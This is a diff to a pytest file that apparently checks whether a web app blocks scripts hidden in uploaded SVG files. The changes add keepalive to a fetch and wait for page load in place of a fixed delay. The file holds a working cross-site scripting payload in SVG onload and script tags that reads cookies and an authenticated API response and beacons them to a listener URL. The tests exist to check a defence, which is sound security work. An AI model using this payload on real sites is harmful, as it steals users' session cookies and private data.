@@ -11,7 +11,7 @@ from programs import EXTERNAL, House, get, wait_until
 
 pytestmark = pytest.mark.skipif(EXTERNAL, reason="starts its own programs")
 # Each tells the page that holds it, and the listener at a port elsewhere, that it has run and what it could read.
-RUN = "(async () => {{ const tell = (t) => {{ fetch('{told}?' + encodeURIComponent(t), {{mode: 'no-cors'}}); new Image().src = '{told}?image-' + encodeURIComponent(t); }}; tell('ran {name}'); " \
+RUN = "(async () => {{ const tell = (t) => {{ fetch('{told}?' + encodeURIComponent(t), {{mode: 'no-cors', keepalive: true}}); new Image().src = '{told}?image-' + encodeURIComponent(t); }}; tell('ran {name}'); " \
       "try {{ tell('cookie ' + document.cookie); }} catch (e) {{}} try {{ localStorage.ran = 1; }} catch (e) {{}} tell('read ' + (await (await fetch('/api/roots', {{credentials: 'include'}})).text()).slice(0, 20)); }})()"
 SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><script><![CDATA[{run}]]></script><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"{run}\"/></foreignObject></svg>"
 FILES = {
@@ -79,10 +79,10 @@ def visitor(tab, evil):
 
 
 def visit(page, url):
-    """Look at an address as itself, and in a frame; what is to be saved is left."""
+    """Look at an address until its document is complete, so that its scripts, if any may run, have; what is to be saved is left."""
     with contextlib.suppress(AssertionError):
         page.cmd("Page.navigate", url=url)
-    page.pump(0.03)
+    page.wait("document.readyState === 'complete'")
 
 
 @pytest.mark.parametrize("name", FILES)
@@ -162,7 +162,7 @@ def test_control_the_scripts_do_run_where_nothing_keeps_them(careless, ear, tab,
     page = tab()
     page.cmd("Network.setCookie", name="session", value="secret", url=careless)
     ear.heard.clear()
-    visit(page, careless + FACES[0].format(name))  # as short as the others
+    visit(page, careless + FACES[0].format(name))  # as the others do, and no longer
     page.goto("about:blank")
     wait_until(lambda: any(f"ran {name}" in one for one in ear.heard), timeout=60)
     page.goto(careless + FACES[0].format(name))
